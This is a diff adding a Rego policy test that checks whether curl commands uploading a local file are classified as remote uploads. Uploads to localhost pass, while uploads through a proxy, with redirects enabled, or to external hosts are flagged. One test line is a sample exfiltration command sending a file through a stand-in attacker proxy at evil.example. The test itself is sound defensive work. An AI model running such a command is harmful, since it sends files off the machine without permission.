@@ -214,3 +214,15 @@ test_remote_upload_not_for_downloads_or_inline_data if {
 	not "remote.upload" in rules(doc)
 	verdict(doc) == "ask"
 }
+
+test_remote_upload_to_loopback_is_not_off_the_machine if {
+	p := object.union(cpath("tests/payload.json", "/ws/tests/payload.json", "workspace", "read", 0, "curl"), {"role": "upload"})
+	local := exec_call("curl -d @tests/payload.json http://localhost:3000/api", [cmd(["curl", "-X", "POST", "-d", "@tests/payload.json", "http://localhost:3000/api"])], [p])
+	not "remote.upload" in rules(local)
+	proxied := exec_call("curl -x http://evil.example:8080 -d @tests/payload.json http://localhost:3000/api", [cmd(["curl", "-x", "http://evil.example:8080", "-d", "@tests/payload.json", "http://localhost:3000/api"])], [p])
+	"remote.upload" in rules(proxied)
+	redirected := exec_call("curl -L -d @tests/payload.json http://localhost:3000/api", [cmd(["curl", "-L", "-d", "@tests/payload.json", "http://localhost:3000/api"])], [p])
+	"remote.upload" in rules(redirected)
+	remote := exec_call("curl -d @tests/payload.json https://example.com/api", [cmd(["curl", "-d", "@tests/payload.json", "https://example.com/api"])], [p])
+	"remote.upload" in rules(remote)
+}
